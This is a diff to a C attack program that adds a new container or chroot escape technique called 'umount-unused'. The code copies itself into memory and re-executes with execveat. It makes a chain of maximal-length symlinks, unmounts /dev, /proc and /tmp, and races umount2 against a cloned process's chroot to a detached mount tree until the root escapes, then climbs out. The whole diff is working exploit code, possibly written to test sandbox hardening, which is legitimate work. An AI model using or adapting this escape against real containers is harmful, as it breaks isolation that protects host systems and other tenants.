@@ -10,7 +10,9 @@
 #include "attack.h"
 
 #include <limits.h>
+#include <signal.h>
 #include <stdint.h>
+#include <sys/mman.h>
 #include <sys/mount.h>
 #include <sys/syscall.h>
 
@@ -232,10 +234,114 @@ static void way_copy_above(void)
 	climb();
 }
 
+/* --- where nobody is in the root while it is unmounted ----------------------------------------- */
+
+/* More links than half of 40, and the kernel does not begin anew with a path (ELOOP). */
+enum { TRIES = 3000, LINKS = 18, STACK = 65536 };
+
+static const char FROM_MEMORY[] = "FROM_MEMORY", LONG_WAY[] = "/17";
+
+/* The program's own file is in use as long as it runs. */
+static void go_on_from_memory(void)
+{
+	extern char **environ;
+	char *words[] = {"escape", "umount-unused", (char *)(uintptr_t)wanted, NULL};
+	char buffer[STACK];
+	ssize_t length;
+
+	if (getenv(FROM_MEMORY))
+		return;
+	int from = (int)must("self", open("/proc/self/exe", O_RDONLY | O_CLOEXEC));
+	int to = (int)must("memfd", memfd_create("escape", 0));
+	while ((length = read(from, buffer, sizeof(buffer))) > 0)
+		must("write", write(to, buffer, (size_t)length));
+	snprintf(buffer, sizeof(buffer), "/proc/self/fd/%d", to);
+	int program = (int)must("open", open(buffer, O_RDONLY | O_CLOEXEC));
+	close(to);
+	setenv(FROM_MEMORY, "1", 1);
+	must("execveat", syscall(SYS_execveat, program, "", words, environ, AT_EMPTY_PATH));
+}
+
+/* Links 0 to 17 in the root: each goes on the spot for as long as a path can be, and then to the one before. */
+static void make_long_way(void)
+{
+	char way[PATH_MAX - 8], name[16], before[16] = ".";
+
+	for (int i = 0; i < LINKS; i++) {
+		size_t length = sizeof(way) - sizeof(before);
+		for (size_t j = 0; j < length; j += 2)
+			memcpy(way + j, "./", 2);
+		memcpy(way + length, before, sizeof(before));
+		snprintf(name, sizeof(name), "%d", i);
+		must("symlink", symlink(way, name));
+		memcpy(before, name, sizeof(before));
+	}
+}
+
+static int elsewhere;
+static volatile int on_the_way;
+
+/* A process with the same root and working directory: has both elsewhere, a while later. */
+static int leave(void *delay)
+{
+	while (!on_the_way)
+		continue;
+	for (volatile intptr_t i = 0; i < (intptr_t)delay; i++)
+		continue;
+	return fchdir(elsewhere) < 0 || chroot(".") < 0;
+}
+
+/* Returns an errno. */
+static int unmount_while_leaving(intptr_t delay)
+{
+	static char stack[STACK];
+	int status;
+
+	on_the_way = 0;
+	pid_t child = (pid_t)must("clone",
+		clone(leave, stack + sizeof(stack), CLONE_VM | CLONE_FS | SIGCHLD, (void *)delay));
+	on_the_way = 1;
+	int error = umount2(LONG_WAY, 0) < 0 ? errno : 0;
+	must("wait", waitpid(child, &status, 0));
+	return error;
+}
+
+/*
+ * The root is in use by whoever has it, and that can be a tree which is mounted nowhere: the lookup begins in the
+ * one, and before it ends nobody is there.  The way back is that to the namespace's root, which begins at the top.
+ */
+static void way_umount_unused(void)
+{
+	static const char *const places[] = {"/dev/pts", "/dev/null", "/dev/zero", "/dev/full",
+		"/dev/random", "/dev/urandom", "/dev/tty", "/dev", "/probes", "/proc", "/tmp"};
+
+	close(top);
+	go_on_from_memory();
+	int space = (int)must("open", open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC));
+	elsewhere =
+		(int)must("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/tmp", OPEN_TREE_CLONE));
+	must("chdir", chdir("/"));
+	make_long_way();
+	for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++)
+		(void)umount2(places[i], 0);
+	for (int i = 0; i < TRIES; i++) {
+		errno = unmount_while_leaving(i * 20);
+		/* Too early (one's own root turns read-only), too late, or begun anew when it was too late. */
+		if (errno && errno != EBUSY && errno != ENOENT && errno != ELOOP)
+			give_up("umount2");
+		must("setns", setns(space, CLONE_NEWNS));
+		if (access(LONG_WAY, F_OK) == 0)
+			continue;
+		climb();
+		return;
+	}
+}
+
 static const struct way {
 	const char *name;
 	void (*go)(void);
 } ways[] = {
+	{"umount-unused", way_umount_unused},
 	{"climb", way_climb},
 	{"umount", way_umount},
 	{"umount-all", way_umount_all},
